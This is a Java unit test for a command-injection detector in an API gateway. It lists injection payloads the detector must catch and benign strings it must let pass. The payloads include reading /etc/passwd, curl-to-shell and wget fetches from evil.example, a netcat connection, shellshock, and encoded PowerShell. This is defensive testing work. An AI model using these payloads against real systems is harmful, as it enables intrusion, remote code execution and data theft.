package dev.apigw.security.validate.signature;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class CommandInjectionDetectorTest {

    private final Detector detector = new CommandInjectionDetector();

    @ParameterizedTest
    @ValueSource(strings = {
        "; cat /etc/passwd", "| id", "&& whoami", "x; ls -la", "$(id)", "`id`", "$(curl http://evil.example/x|sh)",
        "cat${IFS}/etc/passwd", "; w'h'o'am'i", "; c\\at /etc/hosts", "a;/bin/sh -c 'id'", "|nc 10.0.0.1 4444",
        "; sleep 5", "() { :;}; /bin/bash -c id", "; python3.10 -c 'print(1)'", "| powershell -enc AAAA",
        "& cmd.exe /c dir", "for /f %i in ('whoami') do echo %i", "IF EXIST C:\\x.txt ECHO found",
        "nohup ifconfig", "wget http://evil.example/x -O /tmp/x", "; ${x:-id}", ">/tmp/x",
    })
    void detectsCommands(String value) {
        assertThat(detector.matches(value, Slot.VALUE)).as(value).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "cat and dog", "passwd is the command to change a password", "ls -la shows hidden files in a tutorial",
        "$(pwd) in a shell tutorial", "`code` in markdown", "$100 budget", "exec summary attached",
        "eval period ends Friday", "Sleep well", "I'll be there; don't wait", "Ben & Jerry's", "foo|bar",
        "Run `make test` before pushing.", "${server.port:8080}", "Hello ${user}", "Find a store",
        "Save for 50% in (some) stores", "if x == y then z", "Tom & Jerry; more later",
    })
    void letsOrdinaryTextPass(String value) {
        assertThat(detector.matches(value, Slot.VALUE)).as(value).isFalse();
    }
}
